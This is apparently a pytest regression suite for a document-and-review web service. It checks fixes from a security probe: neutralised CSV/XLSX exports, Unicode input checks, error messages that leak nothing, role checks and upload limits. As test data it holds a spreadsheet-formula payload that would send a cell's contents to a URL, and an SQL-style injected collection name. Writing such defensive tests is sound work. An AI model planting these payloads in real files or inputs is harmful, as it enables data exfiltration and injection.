"""Issue 34, in the app (real stores, the simulated model over real HTTP): what a second probe of
83 attacks found, each with the answer the service now gives. Every test here was seen failing
with its protection removed (see the commit messages)."""

from __future__ import annotations

import io
import json
import socket
import zipfile
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from service_helpers import service_settings

from colmeia.config import LLMSettings, Settings
from colmeia.service.app import create_app
from colmeia.service.bodies import BodyMeter
from colmeia.service.keys import create_key
from colmeia.service.simulated import demo_model

HOSTILE_TITLE = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"clique")'
RIS = (
    "TY  - THES\nTI  - {title}\nAU  - Silva, Ana\nPY  - 2020\n"
    "AB  - Educação inclusiva na formação de professores da rede pública.\nER  - \n\n"
)


def _library(svc: Any, h: dict[str, str], collection: str = "teses") -> dict[str, Any]:
    ris = RIS.format(title=HOSTILE_TITLE) + RIS.format(title="-1+1 formação docente")
    files = [("files", ("refs.ris", ris.encode(), "application/x-research-info-systems"))]
    r = svc.client.post(f"/v1/collections/{collection}/library", files=files, headers=h)
    assert r.status_code == 202, r.text
    job = svc.wait_job(r.json()["id"], h, timeout=120)
    assert job["status"] == "succeeded", job
    return job


def _review(svc: Any, h: dict[str, str]) -> str:
    body = {"question": "educação inclusiva", "collection": "teses", "top": 2}
    r = svc.client.post("/v1/reviews", json=body, headers=h)
    assert r.status_code == 202, r.text
    assert svc.wait_job(r.json()["id"], h, timeout=120)["status"] == "succeeded"
    return str(r.json()["id"])


# -- exports that cannot run code -----------------------------------------------------------


def test_a_hostile_title_leaves_the_review_exports_as_text(make_service: Any) -> None:
    svc = make_service()
    h = svc.key("acme")
    _library(svc, h)
    review = _review(svc, h)
    csv_text = svc.client.get(f"/v1/reviews/{review}/export?format=csv", headers=h).text
    cells = [c.strip('"') for line in csv_text.splitlines()[1:] for c in line.split(",")]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], csv_text
    assert "'=HYPERLINK(" in csv_text.replace('""', '"')
    xlsx = svc.client.get(f"/v1/reviews/{review}/export?format=xlsx", headers=h).content
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if "worksheets" in n)
    titles = {r[2] for r in load_workbook(io.BytesIO(xlsx)).active.iter_rows(values_only=True)}
    assert HOSTILE_TITLE in titles  # the text itself, shown, never run


# -- text at the boundary ---------------------------------------------------------------------


@pytest.mark.parametrize("route", ["search", "ask", "thread", "message", "agents"])
def test_a_lone_surrogate_is_a_422_naming_the_field(make_service: Any, route: str) -> None:
    svc = make_service(model=demo_model())
    h = {**svc.key("acme"), "content-type": "application/json"}
    thread = svc.client.post("/v1/assistant/threads", json={}, headers=h).json()["id"]
    path, field = {
        "search": ("/v1/search", "query"),
        "ask": ("/v1/ask", "question"),
        "thread": ("/v1/assistant/threads", "title"),
        "message": (f"/v1/assistant/threads/{thread}/messages", "text"),
        "agents": ("/v1/agents/run", "task"),
    }[route]
    r = svc.client.post(path, content=f'{{"{field}": "abc \\ud800 def"}}', headers=h)
    assert r.status_code == 422, r.text
    error = r.json()["detail"][0]
    assert error["loc"] == ["body", field] and "lone surrogate (U+D800)" in error["msg"]
    assert r.json()["code"] == "invalid" and r.json()["request_id"]
    nul = svc.client.post(path, content=f'{{"{field}": "a\\u0000b"}}', headers=h)
    assert nul.status_code == 422 and "NUL" in nul.json()["detail"][0]["msg"]
    # a pair of surrogates is one character (an emoji), not an error
    ok = svc.client.post("/v1/search", content='{"query": "lei \\ud83d\\ude00"}', headers=h)
    assert ok.status_code != 422


def test_a_huge_query_is_refused_without_being_echoed(make_service: Any) -> None:
    svc = make_service()
    h = svc.key("acme")
    big = "prazo " * 200_000  # 1.2 MB
    r = svc.client.post("/v1/search", json={"query": big}, headers=h)
    assert r.status_code == 422
    assert len(r.content) < 2_000, len(r.content)
    assert "1200000 characters" in r.text


# -- no internals to callers --------------------------------------------------------------------


def _dead_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_an_agent_run_with_the_model_down_shows_no_internals(tmp_path: Path) -> None:
    home = tmp_path / "home"
    port = _dead_port()
    llm = LLMSettings(base_url=f"http://127.0.0.1:{port}/v1", model="m", max_retries=0, timeout=3)
    app = create_app(Settings(home=home, llm=llm), service_settings(home))
    with TestClient(app, raise_server_exceptions=False) as client:
        _, key = create_key(app.state.colmeia.db, "acme", "t")
        h = {"X-API-Key": key}
        body = {"task": "quanto é 2+2?", "max_steps": 2}
        plain = client.post("/v1/agents/run", json=body, headers=h)
        streamed = client.post(
            "/v1/agents/run", json=body, headers={**h, "accept": "text/event-stream"}
        )
    for text in (plain.text, streamed.text):
        assert str(port) not in text and "127.0.0.1" not in text, text
        assert "Error" not in text and "Exception" not in text, text
    assert plain.json()["error_code"] == "model_failed"
    assert plain.json()["request_id"] == plain.headers["x-request-id"]
    assert "language model did not answer" in plain.json()["error"]


def test_every_error_answer_has_a_code_and_the_request_id(make_service: Any) -> None:
    svc = make_service()
    h = svc.key("acme")
    missing = svc.client.get("/v1/jobs/abc123", headers=h)
    assert missing.status_code == 404
    body = missing.json()
    assert body["code"] == "not_found" and body["request_id"] == missing.headers["x-request-id"]
    anonymous = svc.client.get("/v1/jobs")
    assert anonymous.json()["code"] == "unauthenticated" and anonymous.json()["request_id"]


# -- bounded jobs ---------------------------------------------------------------------------


def _records(n: int) -> bytes:
    return json.dumps(
        [{"id": i, "question": "Tem garantia?", "answer": "Sim, um ano."} for i in range(n)]
    ).encode()


def test_a_batch_over_the_record_limit_or_empty_is_refused_at_upload(make_service: Any) -> None:
    svc = make_service(model=demo_model(), max_job_records=5)
    h = svc.key("acme")
    over = svc.client.post(
        "/v1/moderation/jobs", files=[("files", ("lote.json", _records(6), "x"))], headers=h
    )
    assert over.status_code == 413
    assert "more than 5 records" in over.json()["detail"]
    assert "COLMEIA_SERVICE_MAX_JOB_RECORDS" in over.json()["detail"]
    empty = svc.client.post(
        "/v1/moderation/jobs", files=[("files", ("lote.json", b"[]", "x"))], headers=h
    )
    assert empty.status_code == 422 and "no record" in empty.json()["detail"]
    assert svc.client.get("/v1/jobs", headers=h).json() == []  # nothing was queued
    jobs = svc.home / "tenants" / "acme" / "moderation"
    assert not jobs.exists() or not any(jobs.iterdir())  # nor kept on disk


def test_a_csv_over_the_row_limit_is_refused_naming_the_limit(make_service: Any) -> None:
    svc = make_service(max_csv_rows=10)
    h = svc.key("acme")
    rows = "title,text\n" + "".join(f"t{i},texto {i}\n" for i in range(11))
    r = svc.client.post(
        "/v1/collections/leis/documents",
        files=[("files", ("leis.csv", rows.encode(), "text/csv"))],
        headers=h,
    )
    assert r.status_code == 413
    assert "leis.csv has more than 10 rows" in r.json()["detail"]
    assert "COLMEIA_SERVICE_MAX_CSV_ROWS" in r.json()["detail"]
    ok = svc.client.post(
        "/v1/collections/leis/documents",
        files=[("files", ("leis.csv", rows.encode()[: rows.rindex("t10")], "text/csv"))],
        headers=h,
    )
    assert ok.status_code == 202, ok.text


def test_moderation_results_name_no_server_path(make_service: Any) -> None:
    svc = make_service(model=demo_model())
    h = svc.key("acme")
    data = _records(2) + b""
    r = svc.client.post(
        "/v1/moderation/jobs", files=[("files", ("lote.json", data, "x"))], headers=h
    )
    job = svc.wait_job(r.json()["id"], h)
    results = svc.client.get(f"/v1/moderation/jobs/{job['id']}/results", headers=h).json()
    lines = svc.client.get(f"/v1/moderation/jobs/{job['id']}/results.jsonl", headers=h).text
    home = str(svc.home)
    assert home not in json.dumps(results) and home not in lines and home not in json.dumps(job)
    # results come in the order records finish (two workers): each names its record by the
    # file's name under the job, never the server's path
    sources = sorted(i["source"] for i in results["items"])
    assert sources == ["input/lote.json[0]", "input/lote.json[1]"]


# -- roles per action ---------------------------------------------------------------------------


def test_a_member_acts_on_their_own_jobs_and_reviews_an_admin_on_all(make_service: Any) -> None:
    svc = make_service()
    ana, bia = svc.key("acme", name="ana"), svc.key("acme", name="bia")
    admin = svc.key("acme", name="chefe", role="admin")
    _library(svc, ana)
    review = _review(svc, ana)
    work = svc.client.get(f"/v1/reviews/{review}", headers=ana).json()["review"]["works"][0]
    screening = {"work": work["doc_id"], "decision": "include"}
    other = svc.client.post(f"/v1/reviews/{review}/screening", json=screening, headers=bia)
    assert other.status_code == 403 and "another member" in other.json()["detail"]
    assert svc.client.get(f"/v1/reviews/{review}", headers=bia).status_code == 200  # reads
    for who in (ana, admin):
        r = svc.client.post(f"/v1/reviews/{review}/screening", json=screening, headers=who)
        assert r.status_code == 200, r.text

    job = svc.state.jobs.create("acme", "review", {"collection": "none"}, created_by="key:x")
    assert svc.client.post(f"/v1/jobs/{job.id}/cancel", headers=ana).status_code == 403
    # the admin passes the owner check (the job may have ended meanwhile: then 409)
    done = svc.client.post(f"/v1/jobs/{job.id}/cancel", headers=admin)
    assert done.status_code in (200, 409), done.text


def test_the_ui_lists_the_threads_the_api_lists(make_service: Any) -> None:
    svc = make_service()
    ana = svc.key("acme", name="ana")
    _, bia_key = create_key(svc.state.db, "acme", "bia")
    r = svc.client.post("/v1/assistant/threads", json={"title": "segredo da Ana"}, headers=ana)
    assert r.status_code == 201
    assert svc.client.get("/v1/assistant/threads", headers={"X-API-Key": bia_key}).json() == []
    assert svc.sign_in(bia_key).status_code == 303
    page = svc.client.get("/ui/chat")
    assert page.status_code == 200 and "segredo da Ana" not in page.text


def test_a_thread_collection_must_exist_or_be_a_valid_name(make_service: Any) -> None:
    svc = make_service()
    h = svc.key("acme")
    r = svc.client.post("/v1/assistant/threads", json={"collection": "leis;DROP"}, headers=h)
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["body", "collection"]
    ok = svc.client.post("/v1/assistant/threads", json={"collection": "leis"}, headers=h)
    assert ok.status_code == 201


def test_deleting_a_collection_removes_its_imported_files(make_service: Any) -> None:
    svc = make_service()
    h = svc.key("acme")
    job = _library(svc, h)
    folder = svc.home / "tenants" / "acme" / "library" / job["id"]
    assert any(folder.rglob("refs.ris"))
    assert svc.client.delete("/v1/collections/teses", headers=h).status_code == 204
    assert not folder.exists()


# -- the browser ---------------------------------------------------------------------------------


def test_a_rate_limited_htmx_request_gets_a_fragment_the_page_shows(make_service: Any) -> None:
    svc = make_service()
    _, key = create_key(svc.state.db, "acme", "web", rate_limit=2)
    assert svc.sign_in(key).status_code == 303
    answers = [svc.client.get("/ui/collections", headers={"HX-Request": "true"}) for _ in range(4)]
    limited = answers[-1]
    assert limited.status_code == 429 and limited.headers["content-type"].startswith("text/html")
    assert 'role="alert"' in limited.text and "rate limit of 2 requests" in limited.text
    assert "<html" not in limited.text  # a fragment, swapped where the answer goes
    assert int(limited.headers["Retry-After"]) <= 60
    script = svc.client.get("/static/app.js").text
    assert "htmx:beforeSwap" in script and "shouldSwap = true" in script


# -- bodies measured as they arrive --------------------------------------------------------------


def test_a_multipart_file_over_the_file_limit_is_refused_while_it_arrives() -> None:
    meter = BodyMeter.for_request(
        {"content-type": "multipart/form-data; boundary=xyz"}, request_mb=200, upload_mb=1
    )
    head = b'--xyz\r\nContent-Disposition: form-data; name="files"; filename="a.txt"\r\n\r\n'
    assert meter.feed(head) is None
    chunks = [b"x" * 65536 for _ in range(40)]  # 2.5 MB in one part
    refused_at = next(i for i, c in enumerate(chunks) if meter.feed(c))
    assert 15 <= refused_at <= 17  # just past 1 MB and its slack, not at the end
    # many files each under the limit pass, a boundary split across chunks included
    meter = BodyMeter.for_request(
        {"content-type": "multipart/form-data; boundary=xyz"}, request_mb=200, upload_mb=1
    )
    part = b"y" * 900_000
    stream = head + (part + b"\r\n--xyz\r\n" + head[7:]) * 6 + part + b"\r\n--xyz--\r\n"
    pieces = [stream[i : i + 4093] for i in range(0, len(stream), 4093)]
    assert all(meter.feed(p) is None for p in pieces)


def test_a_declared_length_over_the_limit_is_refused_before_the_body(make_service: Any) -> None:
    meter = BodyMeter.for_request({}, request_mb=50, upload_mb=25)
    assert "larger than 50 MB" in str(meter.declared(str(150 * 1024 * 1024)))
    assert meter.declared("1000") is None


def test_quota_numbers_are_in_me(make_service: Any) -> None:
    svc = make_service(request_token_reserve=300)
    me = svc.client.get("/v1/me", headers=svc.key("acme", token_quota=500)).json()
    assert (me["token_quota"], me["tokens_left"], me["tokens_held_per_request"]) == (500, 500, 300)
